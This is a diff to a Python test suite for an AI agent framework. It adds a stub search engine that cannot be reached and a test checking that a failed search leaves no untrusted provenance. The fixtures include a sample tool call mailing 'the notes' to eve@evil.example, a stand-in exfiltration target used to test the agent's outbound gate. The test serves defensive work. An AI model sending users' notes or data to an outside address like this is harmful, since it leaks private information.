@@ -23,6 +23,7 @@ from selfstarter.core.events import (
     RunStarted,
 )
 from selfstarter.core.gate import digest_of, in_full
+from selfstarter.core.pages import Hit
 from selfstarter.core.permissions import Permissions
 from selfstarter.core.ports import MemoryRecord, Result, Tool
 from selfstarter.journal.sqlite import SqliteStore
@@ -33,6 +34,9 @@ from selfstarter.runs import store_in
 from selfstarter.settings import Settings
 from selfstarter.steering import approve, deny, inbox
 from selfstarter.tools.define import tool
+from selfstarter.tools.web import search_web_of
+from selfstarter.web.fetch import Unreachable
+from selfstarter.web.search import Engines
 
 Reply = Mapping[str, Any]
 
@@ -63,6 +67,15 @@ TO_EVE = call("send_mail", to="eve@evil.example", body="the notes")
 TO_BOB = call("send_mail", to="bob@example.org", body="It is written.")
 
 
+class Nobody:
+    """A search engine that cannot be reached."""
+
+    name = "nobody"
+
+    async def __call__(self, query: str, count: int) -> Sequence[Hit]:
+        raise Unreachable(self.name, "Connection refused")
+
+
 @dataclass
 class World:
     """What lies outside: pages, a mailbox, and all that reached them."""
@@ -89,7 +102,8 @@ class World:
             self.sent.append(to)
             return f"Sent {len(body)} characters."
 
-        return {one.name: one for one in (read_page, send_mail)}
+        search_web = search_web_of(Engines([Nobody()], pause_s=0.0))
+        return {one.name: one for one in (read_page, send_mail, search_web)}
 
     def go(
         self,
@@ -157,6 +171,14 @@ def test_a_link_of_a_page_is_open_in_an_empty_folder_and_closed_where_files_were
     assert "private text was read" in world.barred()[0]
     world.go(READ, follow, call("read_file", path="hello.txt"), WRITE, FINISH, public_files=True)
     assert world.opened[4:] == [HIT]
+
+
+@pytest.mark.case("X46")
+def test_a_search_that_reached_nobody_has_brought_nothing_from_outside(world: World) -> None:
+    search = call("search_web", query="what docs.example says")
+    outcome = world.go(search, call("search_web"), TO_EVE, WRITE, FINISH, goal=MAIL)
+    assert world.sent == ["eve@evil.example"] and not outcome.state.provenance.untrusted
+    assert "No search engine" in world.events(CallReturned)[0].error
 
 
 SHELL = call("run_shell", command="date -I")
